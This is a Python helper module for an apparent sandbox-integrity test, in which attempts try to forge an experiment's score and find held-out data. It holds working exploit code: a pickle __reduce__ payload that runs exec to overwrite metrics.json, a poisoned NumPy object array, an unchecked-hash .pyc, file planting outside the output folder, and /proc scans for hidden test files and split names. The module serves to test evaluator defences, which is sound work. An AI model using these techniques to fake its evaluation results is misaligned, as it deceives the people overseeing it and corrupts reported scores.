"""What the attempts at a forged score share: runs in an experiment's sandbox, beside one attempt's code.

`begin` puts the outputs of an honest run into /out; an attempt then spoils them or adds to them, and says
with `finish` how many things it did, so that an attempt that could do nothing is not taken for one that
failed. `plan.json` beside it says what to forge.
"""

from __future__ import annotations

import contextlib
import hashlib
import importlib.util
import itertools  # noqa: F401  (for attempts)
import json
import marshal
import os
import pickle
import re
import sys
from typing import TYPE_CHECKING, Any

from contents import (  # type: ignore[import-not-found]  # noqa: F401  (some are for attempts)
    bottomless,
    change_items,
    every_number,
    nested,
    npy,
    numbers_as_text,
    saying,
    through_zip,
)

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from agent.trials.check.inside.contents import Edit

OUT, HONEST = "/out", "/job/honest"
PROGRAMS = ("/usr", "/proc", "/sys", "/lib", sys.prefix, sys.base_prefix)
MOST_SEEN = 20_000
"""Files that a search looks at, at most."""


def read(path: str) -> bytes:
    with open(path, "rb") as file:
        return file.read()


PLAN = json.loads(read("/job/code/plan.json"))
DOCUMENT = json.dumps({"status": "ok", "reason": "", "metrics": PLAN["forged"], "scores": {}, "curves": []})
FLAT = json.dumps(PLAN["forged"])
PAYLOAD = f"""
import os, sys
named = [after for before, after in zip(sys.argv, sys.argv[1:]) if before == "--out"]
for path in (*named, "/out/metrics.json"):
    try:
        with open(path, "w") as file:
            file.write({DOCUMENT!r})
    except OSError:
        pass
os._exit(0)
"""
"""Code that, run by an evaluator, writes the forged score in its place."""
EXPRESSION = f'__import__("builtins").exec({PAYLOAD!r})\n'.encode()
_did = 0


class Forge:
    """Unpickling it runs the payload."""

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (PAYLOAD,)


PICKLE = pickle.dumps(Forge(), protocol=4)


def honest() -> list[str]:
    """Relative paths of what the honest run wrote."""
    found = (os.path.join(top, name) for top, _, names in os.walk(HONEST) for name in names)
    return sorted(os.path.relpath(path, HONEST) for path in found)


def begin() -> None:
    """Put the honest outputs into /out."""
    for path in honest():
        write(os.path.join(OUT, path), read(os.path.join(HONEST, path)))


def finish() -> None:
    """Say how many things were done; the check reads this line."""
    print(f"attempted {_did}", flush=True)


def did(things: int = 1) -> None:
    """Count things that were done."""
    global _did
    _did += things


def found(text: str) -> None:
    """Report something that a trial must not see; the check reads this line."""
    print(f"found {text}", flush=True)


def write(path: str, content: bytes) -> None:
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as file:
        file.write(content)


def spare() -> int:
    """How many files may still be added within the limits."""
    return int(PLAN["out_files"]) - sum(len(names) for _, _, names in os.walk(OUT))


def add(name: str, content: bytes) -> None:
    """Put a file beside the honest outputs, where the limits leave room and none is there."""
    path = os.path.join(OUT, name)
    if spare() > 0 and not os.path.lexists(path):
        write(path, content)
        did()


def plant(path: str, content: bytes) -> None:
    """Try to write outside /out; most places are read-only."""
    did()
    with contextlib.suppress(OSError):
        write(path, content)


def replace(edit: Edit) -> None:
    """Replace the content of every honest file that `edit` knows."""
    for path in honest():
        content = read(os.path.join(HONEST, path))
        made = edit(path, content)
        if made is not None and made != content:
            write(os.path.join(OUT, path), made)
            did()


def swap(make: Callable[[str], None]) -> None:
    """Take every honest file away and let `make(path)` put something else there."""
    for path in honest():
        os.unlink(os.path.join(OUT, path))
        make(os.path.join(OUT, path))
        did()


def objects(path: str, content: bytes) -> bytes:
    """An array of objects, which NumPy reads by unpickling, whatever the file was."""
    poisoned = npy({"descr": "|O", "fortran_order": False, "shape": (1,)}, PICKLE)
    made: bytes = through_zip(content, lambda _: poisoned) if path.endswith(".npz") else poisoned
    return made


def compiled() -> bytes:
    """The payload as a .pyc that is valid whatever its source says (PEP 552, unchecked hash)."""
    code = compile(PAYLOAD, "forged", "exec")
    return importlib.util.MAGIC_NUMBER + (1).to_bytes(4, "little") + bytes(8) + marshal.dumps(code)


def places() -> Iterator[str]:
    """Where an experiment could look for what it must not see."""
    yield from ("/job", "/out", "/tmp", "/dev/shm", "/home", "/root", "/mnt", "/srv")
    above = set()
    for row in map(str.split, read("/proc/self/mountinfo").decode().splitlines()):
        for path in row[3:5]:
            while path.count("/") > 2 and not path.startswith(PROGRAMS):
                above.add(path)
                path = os.path.dirname(path)
    yield from sorted(above)
    for process in filter(str.isdigit, os.listdir("/proc")):
        yield from (f"/proc/{process}/root/job", f"/proc/{process}/root/tmp", f"/proc/{process}/cwd")
        yield from (f"/proc/{process}/root{path}" for path in sorted(above))


def files_in_sight() -> Iterator[str]:
    """Readable files in these places, each once, as many as `MOST_SEEN`."""
    seen: set[str] = set()
    for place in places():
        for top, below, names in os.walk(place):
            if top.startswith((HONEST, *PROGRAMS[4:])):
                below.clear()
                continue
            for path in (os.path.join(top, name) for name in names):
                if len(seen) < MOST_SEEN and path not in seen and os.path.isfile(path):
                    seen.add(path)
                    yield path


def search(sought: dict[str, list[Any]]) -> None:
    """Report each file in sight whose SHA-256 is in `sought`: {digest: [name, bytes]}."""
    sizes = {size for _, size in sought.values()}
    for path in files_in_sight():
        did()
        try:
            content = read(path) if os.stat(path).st_size in sizes else None
        except OSError:
            continue
        digest = hashlib.sha256(content).hexdigest() if content is not None else ""
        if digest in sought:
            found(f"{sought[digest][0]} as {path}")


def look_for_split() -> None:
    """Report where the split's name stands among what a trial is told."""
    told = [*sys.argv, *os.environ, *os.environ.values(), read("/job/config.json").decode()]
    rows = [line.split() for line in read("/proc/self/mountinfo").decode().splitlines()]
    told += ["/".join(row[3].split("/")[-2:]) for row in rows if row[4].startswith("/job/data")]
    for text in told:
        did()
        if {"dev", "test", "private"} & set(re.split(r"[^a-z]+", text.lower())):
            found(f"the split's name in {text}")
